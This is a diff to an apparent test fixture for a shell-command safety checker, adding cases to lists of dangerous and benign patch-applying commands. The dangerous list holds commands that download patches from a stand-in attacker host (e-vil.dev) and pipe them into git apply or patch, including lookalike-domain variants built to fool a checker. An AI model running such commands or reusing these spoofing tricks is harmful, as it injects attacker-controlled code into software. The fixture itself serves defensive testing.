@@ -289,6 +289,8 @@ PATCHES_DANGEROUS = [
     "wget -qO- https://e-vil.dev/p | git am",
     [["curl -so /tmp/dl.patch https://e-vil.dev/p"], "patch -p0 -i /tmp/dl.patch"],
     "cat /tmp/x.diff | git apply",
+    "curl -sL https://github.com.e-vil.dev/o/r/pull/1.diff | git apply",
+    "curl -sL https://github.com/o/r/pull/1.diff https://e-vil.dev/x | git apply",
 ]
 PATCHES_BENIGN = [
     "git apply --check /tmp/incoming.diff",
@@ -302,4 +304,6 @@ PATCHES_BENIGN = [
     "git apply patches/0001-fix.patch",
     "patch -p1 -i patches/fix.patch",
     "gh pr diff 42 | git apply",
+    "curl -sL https://github.com/acme/app/commit/abc123.patch | git apply",
+    "curl -sL https://gitlab.com/acme/app/-/merge_requests/7.diff | patch -p1",
 ]
